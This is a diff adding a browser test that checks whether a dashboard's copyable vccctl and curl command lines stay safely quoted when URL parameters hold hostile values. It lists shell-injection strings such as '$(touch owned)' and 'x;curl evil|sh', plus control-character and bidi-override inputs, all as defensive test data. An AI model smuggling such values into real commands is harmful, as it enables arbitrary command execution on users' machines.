@@ -4,7 +4,9 @@ import http.server
 import json
 import os
 import ssl
+import subprocess
 import threading
+import urllib.parse
 
 import dashboard
 import pytest
@@ -202,6 +204,39 @@ def test_markup_in_a_name_is_text(site, admin):
         admin.until("Boolean(document.querySelector('main#main h1'))")
     assert "owned" not in admin.run("document.title") and admin.run("document.querySelectorAll('main img, main script').length") == 0
     d.clean(admin, also=("404", "422"))
+
+
+HOSTILE_WORDS = ["x;touch owned", "x'; touch owned; '", "$(touch owned)", "`touch owned`", "a b", "'", "''\\''", "x|touch owned", "x&touch owned", "*", "~", "x\\", "#", "ü>owned"]
+
+
+def test_a_link_of_somebody_else_is_no_command(site, admin, tmp_path):
+    """What stands in an address is one word of the command that is copied, for whatever shell; and what is nothing of ours has no command at all. (T16)"""
+    e, d = site
+    admin.run("navigator.clipboard.writeText = async (text) => { window.copied = text; }")
+    for view, before, name in (("audit", ["audit", "list", "--object"], "object"), ("certificates", ["cert", "list", "--service"], "service")):
+        for word in HOSTILE_WORDS:
+            address = f"#/{view}?{urllib.parse.urlencode({name: word})}"
+            admin.run(f"(() => {{ window.copied = null; location.hash = {json.dumps(address)}; }})()")
+            shown = wait_for(address, lambda: (text := admin.run("(document.querySelector('.foot code') || {}).textContent")) and name in text and text, 60, 0.05)
+            admin.click(".foot button", "vccctl")
+            assert admin.until("window.copied") == shown
+            heard = subprocess.run(["sh", "-c", "vccctl() { printf '%s\\n' \"$@\"; }\n" + shown], cwd=tmp_path, capture_output=True, text=True, timeout=60)
+            assert (heard.returncode, heard.stdout.split("\n")[:-1], heard.stderr) == (0, [*before, word], ""), (address, shown)
+            admin.run("window.copied = null")
+            admin.click(".foot button", "curl")
+            line = admin.until("window.copied")
+            assert line.count("'") == 2 and line.endswith("'"), line
+    assert not os.listdir(tmp_path)
+    for path in ("explain/x;curl%20evil|sh", "certificates/x;id", "campaigns/x;id", "agents/x;id", "services/x;id", "templates/x;id", "approvals/x;id", "renewals/x;id",
+                 "certificates/x%27%3bid"):
+        d.go(admin, "#/overview")
+        admin.run(f"location.hash = {json.dumps('#/' + path)}")
+        admin.until("document.querySelector('main .problem') && !document.querySelector('.foot')", path)
+    for path in ("audit?object=x%03id", "audit?object=x%0aid", "audit?object=x%1b%5b201~id", "certificates?service=x%e2%80%aeid"):
+        d.go(admin, "#/overview")
+        admin.run(f"location.hash = {json.dumps('#/' + path)}")
+        admin.until("document.querySelector('main .filters') && !document.querySelector('.foot')", path)
+    d.clean(admin, also=("404", "422", "403"))
 
 
 class Hostile(http.server.BaseHTTPRequestHandler):
